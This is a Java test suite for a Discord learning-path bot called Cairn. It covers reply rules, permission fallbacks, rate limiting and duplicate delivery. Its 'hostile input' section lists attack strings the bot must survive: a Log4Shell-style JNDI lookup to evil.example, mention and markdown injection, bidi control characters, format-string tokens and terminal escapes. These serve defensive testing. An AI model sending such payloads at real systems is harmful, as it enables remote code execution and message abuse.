package dev.cairn.discord;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cairn.discord.loopback.LoopbackChannel;
import dev.cairn.discord.loopback.LoopbackMessage;
import dev.cairn.discord.loopback.Permission;
import java.util.List;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// When Cairn answers a message, when it is silent, and where the answer goes.
class MessagesTest extends BotTestCase {
  @Test
  void aMentionIsAnsweredWithAPath() {
    LoopbackMessage answer =
        ada.says(general, cairn() + " how do I learn rust? gist please").awaitAnswer();

    assertThat(answer.text()).startsWith("## Rust · Understand the ideas");
    assertThat(answer.repliesTo()).isPresent();
    assertThat(answer.pings()).isEmpty();
    assertThat(answer.ephemeral()).isFalse();
    assertThat(answer.buttons())
        .contains("Get a program working", "Know it to the bottom", "Free only", "Dismiss");
    assertThat(answer.menus())
        .contains("I know this already …", "More about a step …", "Kind of resource");
  }

  @Test
  void withoutBeingAddressedItIsSilent() {
    LoopbackMessage unasked = ada.says(general, "how do I learn rust? gist please");
    LoopbackMessage toBob = ada.says(general, bob.mention() + " how do I learn rust?");
    LoopbackMessage toAll = ada.says(general, "@everyone how do I learn rust?");
    settle();
    assertThat(unasked.answers()).isEmpty();
    assertThat(toBob.answers()).isEmpty();
    assertThat(toAll.answers()).isEmpty();
    assertThat(brain.asked).hasValue(0);
  }

  @Test
  void aDirectMessageIsAnswered() {
    assertThat(ada.tellsBot("learn borrowing, gist").awaitAnswer().text())
        .startsWith("## Borrowing · Understand the ideas");
  }

  @Test
  void outOfScopeGetsOneKindSentence() {
    LoopbackMessage answer = ada.says(general, cairn() + " what about pizza").awaitAnswer();
    assertThat(answer.text()).startsWith("That one is outside what I can help with.");
    assertThat(answer.buttons()).isEmpty();
  }

  @Test
  void aBareMentionIsToldHowToAsk() {
    assertThat(ada.says(general, cairn()).awaitAnswer().text()).startsWith("Ask me what to learn");
  }

  @Test
  void anUnclearGoalIsAskedBackWithWhatEachChoiceCosts() {
    LoopbackMessage question = ada.says(general, cairn() + " learn rust");
    LoopbackMessage asked = question.awaitAnswer();
    assertThat(asked.text()).startsWith("What do you want **Rust** for?");
    assertThat(asked.buttons())
        .contains(
            "Get a program working · no theory, start right away",
            "Understand the ideas · 4 topics, about 16 hours");

    ada.clicks(asked, "Understand the ideas").awaitAnswer();
    assertThat(asked.text()).startsWith("## Rust · Understand the ideas");
    assertThat(question.answers()).hasSize(1);
  }

  @Test
  void aFollowUpInADirectMessageChangesThePathAndGetsOneAnswer() {
    ada.tellsBot("learn rust, internals").awaitAnswer();
    LoopbackMessage followUp = ada.tellsBot("I only have two weeks");
    assertThat(followUp.awaitAnswer().text())
        .contains("your 2 weeks at 5 hours a week are about 10 hours");
    settle();
    assertThat(followUp.answers()).hasSize(1);
  }

  @Test
  void aReplyToAnAnswerChangesItEvenAfterARestart() {
    LoopbackMessage answer = ada.says(general, cairn() + " learn rust, internals").awaitAnswer();
    restartBot();
    brain.asked.set(0);
    LoopbackMessage followUp = ada.repliesPinging(answer, "I only have two weeks");
    assertThat(followUp.awaitAnswer().text())
        .startsWith("## Rust · Know it to the bottom")
        .contains("your 2 weeks at 5 hours a week are about 10 hours");
  }

  @Test
  void aReplyThatCannotBeReadIsToldSo() {
    LoopbackMessage answer = ada.says(general, cairn() + " learn rust, gist").awaitAnswer();
    LoopbackMessage blank = ada.replies(answer, "I only have two weeks");
    assertThat(blank.awaitAnswer().text()).contains("I can only read a reply that mentions me");
  }

  @Test
  void aReplyToSomebodyElseIsLeftAlone() {
    LoopbackMessage bobs = bob.says(general, "rust is nice");
    LoopbackMessage reply = ada.repliesPinging(bobs, "I want to learn rust");
    settle();
    assertThat(reply.answers()).isEmpty();
  }

  @Test
  void otherBotsAreNotAnswered() {
    LoopbackMessage answer = ada.says(general, cairn() + " learn rust, gist").awaitAnswer();
    LoopbackMessage own = discord.bot().says(general, cairn() + " learn rust, gist");
    settle();
    assertThat(own.answers()).isEmpty();
    assertThat(answer.answers()).isEmpty();
  }

  @Test
  void everyQuestionOfAMessageIsAnsweredOnceThoughItIsDeliveredTwice() {
    LoopbackMessage question = ada.says(general, cairn() + " learn rust, gist");
    discord.gateway().redeliver("MESSAGE_CREATE");
    discord.gateway().redeliver("MESSAGE_CREATE");
    question.awaitAnswer();
    settle();
    assertThat(question.answers()).hasSize(1);
    assertThat(brain.asked).hasValue(1);
  }

  @Test
  void tooManyQuestionsAreLimitedWithOneNoticeAndOthersAreUnharmed() {
    List<LoopbackMessage> flood =
        IntStream.range(0, 40)
            .mapToObj(i -> ada.says(general, cairn() + " learn rust, gist " + i))
            .toList();
    LoopbackMessage others = bob.says(general, cairn() + " learn rust, gist");
    assertThat(others.awaitAnswer().text()).startsWith("## Rust");
    settle();
    List<String> answers =
        flood.stream().flatMap(m -> m.answers().stream()).map(LoopbackMessage::text).toList();
    long notices = answers.stream().filter(text -> text.contains("faster than I can")).count();
    assertThat(notices).isEqualTo(1);
    assertThat(answers.size() - notices).isBetween(14L, 25L);
  }

  @Test
  void fifteenQuestionsInARowPass() {
    List<LoopbackMessage> questions =
        IntStream.range(0, 15)
            .mapToObj(i -> ada.says(general, cairn() + " learn rust, gist " + i))
            .toList();
    assertThat(questions).allMatch(q -> q.awaitAnswer().text().startsWith("## Rust"));
  }

  @Test
  void whenTheCoreFailsTheAskerGetsOnePlainSentence() {
    brain.broken = true;
    assertThat(ada.says(general, cairn() + " learn rust").awaitAnswer().text())
        .isEqualTo("I couldn't work that out just now. Please ask again in a minute.");
  }

  // --- where it can't write

  @Test
  void whereItCannotWriteTheAskerGetsOneDirectMessage() {
    general.deniesBot(Permission.SEND_MESSAGES);
    LoopbackMessage question = ada.says(general, cairn() + " learn rust, gist");
    discord.await("a direct message", () -> !ada.inbox().botMessages().isEmpty());
    settle();
    assertThat(question.answers()).isEmpty();
    assertThat(ada.inbox().botMessages())
        .singleElement()
        .satisfies(
            message ->
                assertThat(message.text())
                    .startsWith("I can't write in " + general.mention())
                    .contains("## Rust"));
  }

  @Test
  void whereNotEvenADirectMessageIsTakenThereIsOneReaction() {
    general.deniesBot(Permission.SEND_MESSAGES);
    ada.refusesDirectMessages();
    LoopbackMessage question = ada.says(general, cairn() + " learn rust, gist");
    discord.await("a reaction", () -> !question.reactions().isEmpty());
    settle();
    assertThat(question.reactions()).hasSize(1);
  }

  @Test
  void whereItCannotEmbedTheAnswerIsPlain() {
    general.deniesBot(Permission.EMBED_LINKS);
    LoopbackMessage answer = ada.says(general, cairn() + " learn rust, internals").awaitAnswer();
    assertThat(answer.usesComponentsV2()).isFalse();
    assertThat(answer.text()).startsWith("## Rust · Know it to the bottom");
    ada.clicks(answer, "Free only").awaitAnswer();
    assertThat(answer.usesComponentsV2()).isFalse();
    assertThat(answer.buttons()).contains("Paid ones too");
  }

  @Test
  void whereItCannotReadTheHistoryItAnswersWithoutAReference() {
    general.deniesBot(Permission.READ_MESSAGE_HISTORY);
    ada.says(general, cairn() + " learn rust, gist");
    discord.await("an answer", () -> !general.botMessages().isEmpty());
    assertThat(general.botMessages().getFirst().repliesTo()).isEmpty();
  }

  @Test
  void aDeletedQuestionIsAnsweredWithoutAReference() {
    brain.gate = new java.util.concurrent.CountDownLatch(1);
    LoopbackMessage question = ada.says(general, cairn() + " learn rust, gist");
    discord.gateway().awaitDelivered();
    ada.deletes(question);
    brain.gate.countDown();
    discord.await("an answer", () -> !general.botMessages().isEmpty());
    assertThat(general.botMessages()).hasSize(1);
  }

  @Test
  void aLockedThreadIsAnsweredByDirectMessage() {
    LoopbackMessage post = bob.posts(guild.forum("help"), "A post", "Hello");
    LoopbackChannel thread = post.channel();
    thread.archive(true);
    discord.gateway().awaitDelivered();
    mod.says(thread, cairn() + " learn rust, gist");
    discord.await("a direct message", () -> !mod.inbox().botMessages().isEmpty());
    assertThat(mod.inbox().botMessages()).hasSize(1);
  }

  // --- hostile input

  @ParameterizedTest
  @ValueSource(
      strings = {
        "learn rust, gist @everyone @here <@&1> <@2>",
        "learn **rust** `gist` ||spoiler|| [x](https://evil.example) # > - 1.",
        "learn ru\u200Bst, gi\u202Est \u2066\u2069\uFEFF",
        "learn rust, gist Z\u0335\u0321\u0322\u0327\u0328\u0334\u0335\u0336\u0337\u0338",
        "${jndi:ldap://evil.example/a} learn rust gist {0} %s %n '",
        "learn rust, gist \u0000\u0007\u001b[31m",
        "🦀🦀🦀 learn rust 🦀 gist \uD83D"
      })
  void hostileTextIsAnsweredSafely(String text) {
    LoopbackMessage answer = ada.says(general, cairn() + " " + text).awaitAnswer();
    assertThat(answer.pings()).isEmpty();
    assertThat(answer.text()).doesNotContain("evil.example").doesNotContain("@everyone");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"a", "\u202E", "\n", "`", "*", "\u0301", "<@", "🦀", "\\", "https://e.x/ "})
  void twoThousandOfAnythingAreSurvived(String piece) {
    String text = piece.repeat(Math.max(1, 1_970 / piece.length()));
    LoopbackMessage question = ada.says(general, cairn() + text);
    assertThat(question.awaitAnswer().pings()).isEmpty();
    settle();
    assertThat(question.answers()).hasSize(1);
  }
}
